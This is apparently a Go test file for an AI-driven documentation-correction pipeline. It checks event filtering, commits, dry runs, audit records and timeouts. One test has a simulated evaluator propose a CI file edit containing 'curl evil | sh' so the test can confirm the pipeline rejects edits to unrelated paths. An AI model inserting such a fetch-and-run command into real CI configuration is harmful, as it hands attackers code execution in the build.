/*
Copyright 2026 Chainguard, Inc.
SPDX-License-Identifier: Apache-2.0
*/

package pipeline_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"chainguard.dev/docfixer/agents/evaluator"
	"chainguard.dev/docfixer/audit"
	"chainguard.dev/docfixer/pipeline"
	"chainguard.dev/docfixer/sourcehost"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

type commitCall struct {
	repo, branch, message string
	actions               []sourcehost.CommitAction
}

type fakeHost struct {
	diffs      []sourcehost.DiffEntry
	files      map[string]string
	delays     map[string]time.Duration
	compareErr error
	fetchErr   map[string]error
	commitErr  error

	mu       sync.Mutex
	compares int
	fetched  []string
	commits  []commitCall
}

func (h *fakeHost) Name() string { return "fakehost" }

func (h *fakeHost) Compare(_ context.Context, _, _, _ string) (*sourcehost.Comparison, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.compares++
	if h.compareErr != nil {
		return nil, h.compareErr
	}
	return &sourcehost.Comparison{Diffs: h.diffs}, nil
}

func (h *fakeHost) FileContent(ctx context.Context, _, path, _ string) (string, error) {
	if d := h.delays[path]; d > 0 {
		select {
		case <-time.After(d):
		case <-ctx.Done():
			return "", ctx.Err()
		}
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	h.fetched = append(h.fetched, path)
	if err := h.fetchErr[path]; err != nil {
		return "", err
	}
	return h.files[path], nil
}

func (h *fakeHost) Commit(_ context.Context, repo, branch, message string, actions []sourcehost.CommitAction) (string, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.commits = append(h.commits, commitCall{repo: repo, branch: branch, message: message, actions: actions})
	if h.commitErr != nil {
		return "", h.commitErr
	}
	return "c0ffee", nil
}

type fakeEvaluator struct {
	proposal *evaluator.Proposal
	err      error
	block    bool

	calls int
	diff  string
	files []evaluator.FileSnapshot
}

func (e *fakeEvaluator) Evaluate(ctx context.Context, diff string, files []evaluator.FileSnapshot) (*evaluator.Proposal, error) {
	e.calls++
	e.diff, e.files = diff, files
	if e.block {
		<-ctx.Done()
		return nil, ctx.Err()
	}
	if e.err != nil {
		return nil, e.err
	}
	return e.proposal, nil
}

type memoryStore struct {
	records []audit.Record
	err     error
}

func (s *memoryStore) Append(_ context.Context, r audit.Record) (audit.Record, error) {
	if s.err != nil {
		return r, s.err
	}
	r = audit.Stamp(r)
	s.records = append(s.records, r)
	return r, nil
}

func pushEvent() pipeline.PushEvent {
	return pipeline.PushEvent{
		Kind:       pipeline.KindPush,
		Repository: "42",
		Ref:        "refs/heads/main",
		Before:     "aaa",
		After:      "bbb",
	}
}

func scenarioHost() *fakeHost {
	return &fakeHost{
		diffs: []sourcehost.DiffEntry{
			{OldPath: "a.md", NewPath: "a.md", Diff: "@@ -1 +1 @@\n-[link](old.md)\n+[link](gone.md)"},
			{OldPath: "b.txt", NewPath: "b.txt", Diff: "@@ -1 +1 @@\n-x\n+y"},
		},
		files: map[string]string{"a.md": "# A\n[link](gone.md)"},
	}
}

func noIssues() *evaluator.Proposal {
	return &evaluator.Proposal{Reasoning: "No issues found", Edits: []evaluator.FileEdit{}}
}

func TestIgnoredEventsLeaveNoTrace(t *testing.T) {
	tests := []struct {
		name   string
		event  func(*pipeline.PushEvent)
		host   *fakeHost
		reason string
	}{{
		name:   "tag push kind",
		event:  func(e *pipeline.PushEvent) { e.Kind = "tag_push" },
		host:   scenarioHost(),
		reason: pipeline.ReasonNotPush,
	}, {
		name:   "merge request",
		event:  func(e *pipeline.PushEvent) { e.Kind = "merge_request"; e.Repository = "" },
		host:   scenarioHost(),
		reason: pipeline.ReasonNotPush,
	}, {
		name:   "tag ref",
		event:  func(e *pipeline.PushEvent) { e.Ref = "refs/tags/v1.0.0" },
		host:   scenarioHost(),
		reason: pipeline.ReasonNotPush,
	}, {
		name:   "branch deletion",
		event:  func(e *pipeline.PushEvent) { e.After = pipeline.ZeroRevision },
		host:   scenarioHost(),
		reason: pipeline.ReasonDeletion,
	}, {
		name:  "no documentation",
		event: func(*pipeline.PushEvent) {},
		host: &fakeHost{diffs: []sourcehost.DiffEntry{
			{NewPath: "main.go", Diff: "+package main"},
			{NewPath: "README.md", DeletedFile: true},
			{NewPath: "docs/index.markdown", Diff: "+x"},
		}},
		reason: pipeline.ReasonNoDocuments,
	}}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := &fakeEvaluator{proposal: noIssues()}
			store := &memoryStore{}
			p := pipeline.New(tt.host, ev, store)

			e := pushEvent()
			tt.event(&e)
			got, err := p.Run(t.Context(), e)
			if err != nil {
				t.Fatalf("Run() error = %v", err)
			}
			want := &pipeline.Result{Status: pipeline.StatusIgnored, Reason: tt.reason}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("Run() mismatch (-want +got):\n%s", diff)
			}
			if len(store.records) != 0 {
				t.Errorf("audit records = %d, want 0", len(store.records))
			}
			if len(tt.host.fetched) != 0 || len(tt.host.commits) != 0 || ev.calls != 0 {
				t.Errorf("unexpected calls: fetched=%v commits=%d evaluations=%d", tt.host.fetched, len(tt.host.commits), ev.calls)
			}
		})
	}
}

func TestInvalidEvent(t *testing.T) {
	host := scenarioHost()
	store := &memoryStore{}
	p := pipeline.New(host, &fakeEvaluator{proposal: noIssues()}, store)

	e := pushEvent()
	e.Repository = ""
	e.Before = ""
	_, err := p.Run(t.Context(), e)
	if !pipeline.IsInvalid(err) {
		t.Fatalf("Run() error = %v, want ErrInvalidEvent", err)
	}
	if !strings.Contains(err.Error(), "repository id, before") {
		t.Errorf("error %q does not name the missing fields", err)
	}
	if host.compares != 0 || len(store.records) != 0 {
		t.Errorf("compares = %d, records = %d, want none", host.compares, len(store.records))
	}
}

func TestOnlyDocumentationIsEvaluated(t *testing.T) {
	host := scenarioHost()
	ev := &fakeEvaluator{proposal: noIssues()}
	p := pipeline.New(host, ev, &memoryStore{})

	if _, err := p.Run(t.Context(), pushEvent()); err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if diff := cmp.Diff([]string{"a.md"}, host.fetched); diff != "" {
		t.Errorf("fetched mismatch (-want +got):\n%s", diff)
	}
	if ev.diff != host.diffs[0].Diff {
		t.Errorf("evaluated diff = %q, want the a.md diff alone", ev.diff)
	}
	want := []evaluator.FileSnapshot{{Path: "a.md", Content: "# A\n[link](gone.md)"}}
	if diff := cmp.Diff(want, ev.files); diff != "" {
		t.Errorf("evaluated files mismatch (-want +got):\n%s", diff)
	}
}

func TestCorrectionsAreCommitted(t *testing.T) {
	host := scenarioHost()
	ev := &fakeEvaluator{proposal: &evaluator.Proposal{
		Reasoning: "fixed broken link",
		Edits:     []evaluator.FileEdit{{FilePath: "a.md", Content: "# A\nfixed"}},
	}}
	store := &memoryStore{}
	p := pipeline.New(host, ev, store)

	got, err := p.Run(t.Context(), pushEvent())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}

	commit := "c0ffee"
	want := &pipeline.Result{
		Status: pipeline.StatusProcessed,
		Summary: &pipeline.Summary{
			Evaluated:   1,
			Corrections: 1,
			CommitID:    &commit,
			Reasoning:   "fixed broken link",
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Run() mismatch (-want +got):\n%s", diff)
	}

	if len(host.commits) != 1 {
		t.Fatalf("commits = %d, want 1", len(host.commits))
	}
	c := host.commits[0]
	wantActions := []sourcehost.CommitAction{sourcehost.UpdateAction("a.md", "# A\nfixed")}
	if diff := cmp.Diff(wantActions, c.actions); diff != "" {
		t.Errorf("actions mismatch (-want +got):\n%s", diff)
	}
	if c.branch != "main" || c.repo != "42" {
		t.Errorf("commit target = %s@%s, want 42@main", c.repo, c.branch)
	}
	if c.message != "docs: auto-correct markdown (docfixer agent)\n\nfixed broken link" {
		t.Errorf("commit message = %q", c.message)
	}

	wantRecord := audit.Record{
		Type:           audit.TypePush,
		Host:           "fakehost",
		Repository:     "42",
		Branch:         "main",
		Before:         "aaa",
		After:          "bbb",
		FilesEvaluated: []string{"a.md"},
		EditsApplied:   1,
		Reasoning:      "fixed broken link",
		CommitID:       &commit,
	}
	if len(store.records) != 1 {
		t.Fatalf("audit records = %d, want 1", len(store.records))
	}
	if diff := cmp.Diff(wantRecord, store.records[0], cmpopts.IgnoreFields(audit.Record{}, "ID", "Timestamp")); diff != "" {
		t.Errorf("audit record mismatch (-want +got):\n%s", diff)
	}
}

func TestNoCorrections(t *testing.T) {
	host := scenarioHost()
	store := &memoryStore{}
	p := pipeline.New(host, &fakeEvaluator{proposal: noIssues()}, store)

	got, err := p.Run(t.Context(), pushEvent())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if got.Summary.Corrections != 0 || got.Summary.CommitID != nil {
		t.Errorf("Summary = %+v, want no corrections and no commit", got.Summary)
	}
	if len(host.commits) != 0 {
		t.Errorf("commits = %d, want 0", len(host.commits))
	}
	if len(store.records) != 1 || store.records[0].CommitID != nil || store.records[0].Failed() {
		t.Errorf("audit records = %+v, want one successful record without commit", store.records)
	}
}

func TestMalformedProposalIsANoOp(t *testing.T) {
	host := scenarioHost()
	store := &memoryStore{}
	p := pipeline.New(host, &fakeEvaluator{proposal: evaluator.ParseProposal("not json")}, store)

	got, err := p.Run(t.Context(), pushEvent())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if got.Status != pipeline.StatusProcessed || got.Summary.Corrections != 0 {
		t.Errorf("Run() = %+v", got)
	}
	if !strings.HasPrefix(got.Summary.Reasoning, evaluator.MalformedPrefix) {
		t.Errorf("Reasoning = %q", got.Summary.Reasoning)
	}
	if len(host.commits) != 0 || len(store.records) != 1 {
		t.Errorf("commits = %d, records = %d, want 0 and 1", len(host.commits), len(store.records))
	}
}

func TestUnknownEditPathsAreRejected(t *testing.T) {
	host := scenarioHost()
	store := &memoryStore{}
	ev := &fakeEvaluator{proposal: &evaluator.Proposal{
		Reasoning: "fixed links",
		Edits: []evaluator.FileEdit{
			{FilePath: "a.md", Content: "# A\nfixed"},
			{FilePath: ".gitlab-ci.yml", Content: "script: curl evil | sh"},
		},
	}}
	p := pipeline.New(host, ev, store)

	got, err := p.Run(t.Context(), pushEvent())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if got.Summary.Corrections != 1 {
		t.Errorf("Corrections = %d, want 1", got.Summary.Corrections)
	}
	if diff := cmp.Diff([]string{".gitlab-ci.yml"}, got.Summary.Rejected); diff != "" {
		t.Errorf("Rejected mismatch (-want +got):\n%s", diff)
	}
	if len(host.commits) != 1 || len(host.commits[0].actions) != 1 || host.commits[0].actions[0].FilePath != "a.md" {
		t.Errorf("commits = %+v, want a single a.md update", host.commits)
	}
	if diff := cmp.Diff([]string{".gitlab-ci.yml"}, store.records[0].RejectedPaths); diff != "" {
		t.Errorf("audit rejected paths mismatch (-want +got):\n%s", diff)
	}
}

func TestOnlyUnknownEditPaths(t *testing.T) {
	host := scenarioHost()
	ev := &fakeEvaluator{proposal: &evaluator.Proposal{
		Reasoning: "r",
		Edits:     []evaluator.FileEdit{{FilePath: "other.md", Content: "x"}},
	}}
	p := pipeline.New(host, ev, &memoryStore{})

	got, err := p.Run(t.Context(), pushEvent())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if len(host.commits) != 0 || got.Summary.CommitID != nil || got.Summary.Corrections != 0 {
		t.Errorf("Run() = %+v with %d commits, want nothing committed", got.Summary, len(host.commits))
	}
}

func TestDryRun(t *testing.T) {
	host := scenarioHost()
	store := &memoryStore{}
	ev := &fakeEvaluator{proposal: &evaluator.Proposal{
		Reasoning: "fixed broken link",
		Edits:     []evaluator.FileEdit{{FilePath: "a.md", Content: "# A\nfixed"}},
	}}
	p := pipeline.New(host, ev, store, pipeline.WithDryRun(true))

	got, err := p.Run(t.Context(), pushEvent())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if len(host.commits) != 0 {
		t.Errorf("commits = %d, want 0", len(host.commits))
	}
	if got.Summary.Corrections != 1 || got.Summary.CommitID != nil || !got.Summary.DryRun {
		t.Errorf("Summary = %+v", got.Summary)
	}
	if !store.records[0].DryRun || store.records[0].EditsApplied != 1 {
		t.Errorf("audit record = %+v", store.records[0])
	}
}

func TestFailuresAreAudited(t *testing.T) {
	hostErr := &sourcehost.HostError{Host: "GitLab", StatusCode: 404, Body: "404 Not Found"}

	tests := []struct {
		name        string
		host        func() *fakeHost
		ev          *fakeEvaluator
		wantEval    bool
		wantCommits int
	}{{
		name: "compare",
		host: func() *fakeHost {
			h := scenarioHost()
			h.compareErr = hostErr
			return h
		},
		ev: &fakeEvaluator{proposal: noIssues()},
	}, {
		name: "snapshot",
		host: func() *fakeHost {
			h := scenarioHost()
			h.fetchErr = map[string]error{"a.md": hostErr}
			return h
		},
		ev: &fakeEvaluator{proposal: noIssues()},
	}, {
		name: "evaluation transport",
		host: scenarioHost,
		ev:   &fakeEvaluator{err: &sourcehost.HostError{Host: "evaluator", StatusCode: 404, Body: "404 Not Found"}},

		wantEval: true,
	}, {
		name: "commit",
		host: func() *fakeHost {
			h := scenarioHost()
			h.commitErr = hostErr
			return h
		},
		ev: &fakeEvaluator{proposal: &evaluator.Proposal{
			Reasoning: "fix",
			Edits:     []evaluator.FileEdit{{FilePath: "a.md", Content: "x"}},
		}},
		wantEval:    true,
		wantCommits: 1,
	}}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			host := tt.host()
			store := &memoryStore{}
			p := pipeline.New(host, tt.ev, store)

			got, err := p.Run(t.Context(), pushEvent())
			if err == nil {
				t.Fatalf("Run() = %+v, want error", got)
			}
			if !strings.Contains(err.Error(), "404 Not Found") {
				t.Errorf("error %q does not carry the host message", err)
			}
			if pipeline.IsInvalid(err) {
				t.Error("host failure classified as invalid event")
			}
			if (tt.ev.calls > 0) != tt.wantEval {
				t.Errorf("evaluations = %d, want called = %v", tt.ev.calls, tt.wantEval)
			}
			if len(host.commits) != tt.wantCommits {
				t.Errorf("commits = %d, want %d", len(host.commits), tt.wantCommits)
			}

			want := []audit.Record{{
				Type:       audit.TypePush,
				Host:       "fakehost",
				Repository: "42",
				Branch:     "main",
				Before:     "aaa",
				After:      "bbb",
				Error:      err.Error(),
			}}
			if diff := cmp.Diff(want, store.records, cmpopts.IgnoreFields(audit.Record{}, "ID", "Timestamp")); diff != "" {
				t.Errorf("audit records mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAuditFailureDoesNotFailTheRun(t *testing.T) {
	host := scenarioHost()
	ev := &fakeEvaluator{proposal: &evaluator.Proposal{
		Reasoning: "fix",
		Edits:     []evaluator.FileEdit{{FilePath: "a.md", Content: "x"}},
	}}
	p := pipeline.New(host, ev, &memoryStore{err: errors.New("disk full")})

	got, err := p.Run(t.Context(), pushEvent())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if got.Summary.CommitID == nil {
		t.Error("CommitID = nil, want the commit that was made")
	}
}

// blockingStore never acknowledges a write until its context ends.
type blockingStore struct {
	err chan error
}

func (s *blockingStore) Append(ctx context.Context, r audit.Record) (audit.Record, error) {
	<-ctx.Done()
	s.err <- ctx.Err()
	return r, ctx.Err()
}

func TestAuditWriteIsBounded(t *testing.T) {
	store := &blockingStore{err: make(chan error, 1)}
	p := pipeline.New(scenarioHost(), &fakeEvaluator{proposal: noIssues()}, store, pipeline.WithAuditTimeout(20*time.Millisecond))

	done := make(chan error, 1)
	go func() {
		_, err := p.Run(t.Context(), pushEvent())
		done <- err
	}()

	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Run() error = %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Run() did not return while the audit store was unresponsive")
	}

	if err := <-store.err; !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("audit write ended with %v, want deadline exceeded", err)
	}
}

func TestEvalTimeout(t *testing.T) {
	store := &memoryStore{}
	p := pipeline.New(scenarioHost(), &fakeEvaluator{block: true}, store, pipeline.WithEvalTimeout(20*time.Millisecond))

	_, err := p.Run(t.Context(), pushEvent())
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("Run() error = %v, want deadline exceeded", err)
	}
	if len(store.records) != 1 || !store.records[0].Failed() {
		t.Errorf("audit records = %+v, want one failure", store.records)
	}
}

func TestSnapshotsKeepDiffOrder(t *testing.T) {
	const n = 6
	host := &fakeHost{files: map[string]string{}, delays: map[string]time.Duration{}}
	var wantPaths []string
	for i := range n {
		path := fmt.Sprintf("docs/%d.md", i)
		host.diffs = append(host.diffs, sourcehost.DiffEntry{NewPath: path, Diff: fmt.Sprintf("+%d", i)})
		host.files[path] = fmt.Sprintf("content %d", i)
		// Earlier files finish last.
		host.delays[path] = time.Duration(n-i) * 5 * time.Millisecond
		wantPaths = append(wantPaths, path)
	}
	ev := &fakeEvaluator{proposal: noIssues()}
	p := pipeline.New(host, ev, &memoryStore{}, pipeline.WithFetchConcurrency(n))

	if _, err := p.Run(t.Context(), pushEvent()); err != nil {
		t.Fatalf("Run() error = %v", err)
	}

	var gotPaths []string
	for i, f := range ev.files {
		gotPaths = append(gotPaths, f.Path)
		if want := fmt.Sprintf("content %d", i); f.Content != want {
			t.Errorf("files[%d].Content = %q, want %q", i, f.Content, want)
		}
	}
	if diff := cmp.Diff(wantPaths, gotPaths); diff != "" {
		t.Errorf("snapshot order mismatch (-want +got):\n%s", diff)
	}
	if want := "+0\n\n+1\n\n+2\n\n+3\n\n+4\n\n+5"; ev.diff != want {
		t.Errorf("combined diff = %q, want %q", ev.diff, want)
	}
}

func TestSnapshotFailureAbortsBatch(t *testing.T) {
	host := &fakeHost{
		diffs: []sourcehost.DiffEntry{
			{NewPath: "a.md", Diff: "+a"},
			{NewPath: "b.md", Diff: "+b"},
		},
		files:    map[string]string{"a.md": "a", "b.md": "b"},
		fetchErr: map[string]error{"b.md": &sourcehost.HostError{Host: "GitLab", StatusCode: 500, Body: "boom"}},
	}
	ev := &fakeEvaluator{proposal: noIssues()}
	p := pipeline.New(host, ev, &memoryStore{})

	_, err := p.Run(t.Context(), pushEvent())
	var he *sourcehost.HostError
	if !errors.As(err, &he) {
		t.Fatalf("Run() error = %v, want HostError", err)
	}
	if ev.calls != 0 {
		t.Errorf("evaluations = %d, want 0", ev.calls)
	}
}
